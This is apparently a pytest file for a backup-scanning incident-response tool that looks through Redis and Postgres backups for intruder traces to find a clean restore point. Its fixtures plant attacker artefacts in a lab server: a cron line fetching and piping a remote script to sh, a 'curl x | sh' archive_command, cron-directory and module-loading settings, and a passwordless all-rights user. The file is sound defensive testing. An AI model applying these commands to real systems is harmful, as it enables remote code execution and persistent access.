"""A backup from before the break-in is looked for by what an intruder leaves, in a real server beside the real one."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import pytest
from msgspec import structs

from actions.intrusion.scan import scan_backups, scan_left
from actions.intrusion.search import newest_without
from actions.intrusion.told import Told, outcome
from actions.intrusion.traces import Holding
from actions.inventory import load_inventory
from actions.outcome import ActionFailed
from actions.systems.postgres.traces import rules
from actions.systems.postgres.traces import settings as postgres_settings
from actions.systems.redis.reload_aof import reload_aof
from actions.systems.redis.traces import settings as redis_settings
from actions.systems.redis.traces import users
from actions.transport import Completed
from cleo_console.lab.redis import backups
from cleo_console.lab.redis.service import NodeService
from journal.events.scanned import Scan
from tests.actions.breach.conftest import LabOf
from tests.actions.contexts import FakeContext
from tests.labs import Lab

pytestmark = pytest.mark.xdist_group("breach")

NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)


@pytest.mark.parametrize(("first_bad", "asked"), [(99, 1), (15, 5), (0, 5), (7, 5)])
def test_the_newest_without_strangers_is_found_in_few_restores(first_bad: int, asked: int) -> None:
    points, seen = [NOON + timedelta(hours=each) for each in range(16)], []

    def has_strangers(at: datetime) -> bool:
        seen.append(at)
        return points.index(at) >= first_bad

    found = newest_without(points, has_strangers)
    assert found == (points[min(first_bad, 16) - 1] if first_bad else None)
    assert seen[0] == points[-1], "the newest loses least"
    assert len(seen) <= asked


def test_what_cannot_be_looked_at_is_left_out() -> None:
    points = [NOON + timedelta(hours=each) for each in range(4)]
    unusable = {points[3], points[1]}
    assert newest_without(points, lambda at: None if at in unusable else at > points[2]) == points[2]


def test_a_newest_backup_that_holds_the_intruder_leads_to_an_earlier_state(labs: LabOf) -> None:
    stores = labs("redis")
    service = stores.services["redis"]
    assert isinstance(service, NodeService)
    with service.node.client(database=1) as client:
        client.acl_setuser("eve", enabled=True, nopass=True, categories=["+@all"], keys=["*"])
        client.acl_save()
        client.set("backup9", "\n*/2 * * * * root curl -fsSL http://203.0.113.66/i.sh | sh\n")
    label = backups.take(service.node)
    with service.node.client(database=1) as client:
        client.config_set("protected-mode", "no")
    try:
        done, ctx = _scanned(stores)
    finally:
        with service.node.client(database=1) as client:
            client.config_set("protected-mode", "yes")
            client.acl_deluser("eve")
            client.acl_save()
            client.delete("backup9")
    assert done.ok and "Nothing was found in redis of what was looked for" in done.summary and label in done.summary
    assert not any("clean" in line for line in [*ctx.lines, done.summary])
    scan = Scan.of(done.facts)
    assert scan and scan.looked_for and scan.not_looked_for
    bad = {name for one in scan.states if one.backup == label for name in one.strangers}
    assert {"user eve", "key backup9 of db1"} <= bad
    assert {"user eve", "key backup9 of db1", "setting protected-mode at runtime"} <= set(done.facts["strangers"])
    assert not any("203.0.113.66" in line for line in ctx.lines), "what is in a key is nobody's to read"

    again, ctx = _scanned(stores, ctx=ctx, expected="; ".join(bad))
    assert "load it in" not in "".join(ctx.effects), "what was looked through is not restored again"
    assert label in again.summary.partition(";")[0], "what belongs there is no stranger"
    assert ctx.do(scan_left).ok


def test_before_all_backups_there_is_nothing_to_look_through(labs: LabOf) -> None:
    stores = labs("redis")
    with pytest.raises(ActionFailed, match="No backup of redis ended before") as failed:
        _context(stores).do(scan_backups, since="2020-01-01T00:00:00Z")
    assert failed.value.cures[0].action == "backups.fetch"
    dry = _context(stores, dry_run=True).do(scan_backups)
    assert dry.ok and "would look through" in dry.summary
    behind = _Behind(load_inventory(stores.inventory_path), system="redis", discovered_at=datetime.now(UTC))
    with pytest.raises(ActionFailed, match="No backup of redis ended before"):
        behind.do(scan_backups)
    assert "behind: taken by it" in "".join(behind.lines)


def test_append_only_files_that_nobody_looked_through_are_not_loaded_after_a_break_in(labs: LabOf) -> None:
    done = _context(labs("redis"), scenario="security-breach").do(reload_aof)
    assert done.ok and done.facts == {"reloaded": False} and "nobody looked through" in done.summary


class _Behind(FakeContext):
    """A context whose hosts have a clock that is 30 days behind."""

    def query(self, host: str, argv: Sequence[str], **more: Any) -> Completed:
        shift = timedelta(days=30) if argv[0] == "date" else timedelta()
        done = super().query(host, argv, **more)
        return structs.replace(done, out=str(float(done.out) - shift.total_seconds())) if shift else done


def test_the_first_trace_came_after_what_the_last_state_without_it_shows() -> None:
    """Up to when a restore leads to a backup says nothing of what was inside by then."""
    found = {"user eve": "was not there"}
    good = Holding(things={}, backup="one", since=NOON, until=NOON + timedelta(hours=5))
    bad = Holding(things={}, backup="two", since=NOON + timedelta(hours=5))
    limit = NOON + timedelta(hours=9)
    told = Told(
        states=[(NOON + timedelta(seconds=1), good, {}, "alone"), (limit, bad, found, "the oldest")],
        good=NOON + timedelta(seconds=1),
        live={},
        gone=[],
        made={},
        limit=limit,
        why="",
        unseen=[],
        looked_for=[],
        not_looked_for=[],
    )
    ctx: Any = SimpleNamespace(log=lambda *_: None, system="redis")
    assert f"between {NOON:%Y-%m-%d %H}:00:00 UTC and {NOON:%Y-%m-%d} 17:00:00 UTC" in outcome(ctx, told).summary


def test_the_same_rights_in_other_words_are_the_same() -> None:
    by_people, by_server = "user ann on >secret allkeys +@all", "user ann on #5f ~* resetchannels +@all"
    assert users([by_people])["user ann"].digest == users([by_server])["user ann"].digest
    assert users(["user ann off ~* +@read"])["user ann"].digest != users([by_server])["user ann"].digest
    assert "5f" not in str(users([by_server]))


def test_configuration_is_told_by_what_runs_loads_or_opens_something() -> None:
    redis = redis_settings('dir "/var/spool/cron"\nloadmodule /tmp/x.so a\nmaxmemory 1gb\n# dir /etc\n')
    assert set(redis) == {"setting dir", "setting loadmodule /tmp/x.so"}
    postgres = postgres_settings(
        "archive_command = 'true' # was\nwork_mem = 4MB\n", "archive_command = 'curl x | sh'\n"
    )
    assert {name: one.what for name, one in postgres.items()} == {"setting archive_command": "curl x | sh"}
    assert set(rules("# all\nhost  all  eve 0.0.0.0/0\ttrust\n", "pg_hba.conf")) == {
        "pg_hba.conf: host all eve 0.0.0.0/0 trust"
    }


def _context(stores: Lab, **more: Any) -> FakeContext:
    inventory = load_inventory(stores.inventory_path)
    return FakeContext(inventory, system="redis", discovered_at=datetime.now(UTC), **more)


def _scanned(stores: Lab, ctx: FakeContext | None = None, **params: str) -> tuple[Any, FakeContext]:
    ctx = ctx or _context(stores)
    ctx.effects.clear()
    return ctx.do(scan_backups, **params), ctx
